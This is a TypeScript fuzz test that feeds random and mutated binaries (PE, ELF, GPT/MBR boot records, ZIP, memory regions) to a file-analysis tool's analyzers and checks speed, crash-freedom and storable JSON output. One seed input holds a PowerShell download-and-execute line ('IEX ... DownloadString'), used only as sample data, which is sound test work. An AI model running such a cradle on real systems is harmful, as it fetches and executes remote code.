import assert from 'node:assert/strict';
import { writeFile } from 'node:fs/promises';
import { readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { analyze } from './analyze.js';
import { analyzeBootRecord } from './boot-record.js';
import { Deadline, bufferSource } from './bytes.js';
import { analyzeElf } from './elf.js';
import { detectFileType } from './file-type.js';
import { buildPe, buildVbr, buildZip, gccElf } from './golden.fixtures.js';
import { sfdiskImage } from '#test-support';
import { analyzeMemoryRegion } from './memory-region.js';
import { analyzePe } from './pe.js';

const INPUTS = 10_000;
/** Whole-run budget on a loaded 2-core machine (about 5 s on an idle one). */
const TOTAL_BUDGET_MS = 60_000;
/** No single input may take longer than this through all the analyzers together. */
const INPUT_BUDGET_MS = 1_000;

/** A small seeded generator (mulberry32), so a failing input can be made again from the seed. */
function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const MAGICS = [
  'MZ',
  '\x7fELF\x02\x01\x01',
  '\x7fELF\x01\x02\x01',
  '\xcf\xfa\xed\xfe',
  '\xca\xfe\xba\xbe\x00\x00\x00\x02',
  'PK\x03\x04',
  'PK\x05\x06',
  'Rar!\x1a\x07\x00',
  '%PDF-1.4',
  '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1',
  '#!/bin/sh\n',
  'MSCF\0\0\0\0',
  'EFI PART',
];

async function goldens(): Promise<Buffer[]> {
  const gpt = await sfdiskImage('label: gpt\n,8MiB,U\n,,L\n', 34 * 512);
  const mbr = await sfdiskImage('label: dos\n,16MiB,L,*\n,,S\n', 4096);
  const region = Buffer.alloc(0x6000);
  buildPe().copy(region, 0x1000);
  return [
    buildPe(),
    region,
    await gccElf(),
    (await readFile('/bin/ls')).subarray(0, 64 * 1024),
    gpt.head,
    mbr.head,
    buildVbr('ntfs'),
    buildVbr('fat32'),
    buildZip({ '[Content_Types].xml': '<Types/>', 'xl/workbook.xml': '<w/>', 'xl/vbaProject.bin': 'x' }),
    Buffer.from('$e = New-Object Net.WebClient; IEX $e.DownloadString($env:U)\n'.repeat(20), 'utf16le'),
  ];
}

function mutate(random: () => number, golden: Buffer): Buffer {
  const out = Buffer.from(golden);
  const edits = 1 + Math.floor(random() * 32);
  for (let i = 0; i < edits && out.length > 0; i++) {
    const at = Math.floor(random() * out.length);
    const how = random();
    if (how < 0.5) out[at] = (out[at] ?? 0) ^ (1 << Math.floor(random() * 8));
    else if (how < 0.8) out[at] = Math.floor(random() * 256);
    else if (at + 4 <= out.length) out.writeUInt32LE(Math.floor(random() * 2 ** 32), at);
  }
  return out;
}

function input(random: () => number, golden: Buffer[]): Buffer {
  const pick = random();
  const base = golden[Math.floor(random() * golden.length)] ?? Buffer.alloc(0);
  if (pick < 0.2) {
    const bytes = Buffer.alloc(Math.floor(random() * 8192));
    for (let i = 0; i < bytes.length; i++) bytes[i] = Math.floor(random() * 256);
    return bytes;
  }
  if (pick < 0.3) {
    const magic = Buffer.from(MAGICS[Math.floor(random() * MAGICS.length)] ?? '', 'latin1');
    const tail = Buffer.alloc(Math.floor(random() * 2048));
    for (let i = 0; i < tail.length; i++) tail[i] = Math.floor(random() * 256);
    return Buffer.concat([magic, tail]);
  }
  if (pick < 0.5) return Buffer.from(base.subarray(0, Math.floor(random() * (base.length + 1))));
  const mutated = mutate(random, base);
  return random() < 0.2 ? mutated.subarray(0, Math.floor(random() * (mutated.length + 1))) : mutated;
}

async function everyAnalyzer(bytes: Buffer): Promise<unknown[]> {
  const source = bufferSource(bytes);
  const deadline = new Deadline(INPUT_BUDGET_MS / 2);
  return [
    await detectFileType(source),
    await analyzePe(source, { deadline }),
    await analyzePe(source, { layout: 'mapped', deadline }),
    await analyzeElf(source, deadline),
    await analyzeBootRecord(source, { sectorSize: 512 }),
    await analyzeBootRecord(source, { sectorSize: 4096, lba: 1 }),
    await analyzeMemoryRegion(source, { protection: 'RWX', deadline }),
    await analyze('file', source),
  ];
}

describe('analyzers under fuzzing', () => {
  it(`survive ${INPUTS} random and mutated inputs without a throw, in time, with JSON results`, async () => {
    const seed = Number(process.env.FUZZ_SEED ?? Date.now() % 2 ** 31);
    const random = rng(seed);
    const golden = await goldens();
    const started = performance.now();
    let slowest = 0;
    for (let n = 0; n < INPUTS; n++) {
      const bytes = input(random, golden);
      const t0 = performance.now();
      try {
        const results = await everyAnalyzer(bytes);
        const json = JSON.stringify(results);
        // What PostgreSQL's jsonb refuses: NUL, and surrogates JSON.stringify escapes when unpaired.
        assert.doesNotMatch(json, /\\u0000|\\ud[89a-f]/i, 'results are storable as jsonb');
        const analysis = results.at(-1) as { errors?: unknown };
        assert.equal(analysis.errors, undefined, 'no analyzer failed inside analyze()');
      } catch (e) {
        const path = join(tmpdir(), `analyzer-fuzz-${seed}-${n}.bin`);
        await writeFile(path, bytes);
        throw new Error(`input ${n} of seed ${seed} (saved to ${path}) made an analyzer throw`, { cause: e });
      }
      const took = performance.now() - t0;
      slowest = Math.max(slowest, took);
      assert.ok(took < INPUT_BUDGET_MS, `input ${n} of seed ${seed} took ${Math.round(took)} ms`);
    }
    const total = performance.now() - started;
    assert.ok(total < TOTAL_BUDGET_MS, `${INPUTS} inputs took ${Math.round(total)} ms`);
    console.log(
      `fuzz seed ${seed}: ${INPUTS} inputs in ${Math.round(total)} ms, slowest ${Math.round(slowest)} ms`,
    );
  });
});
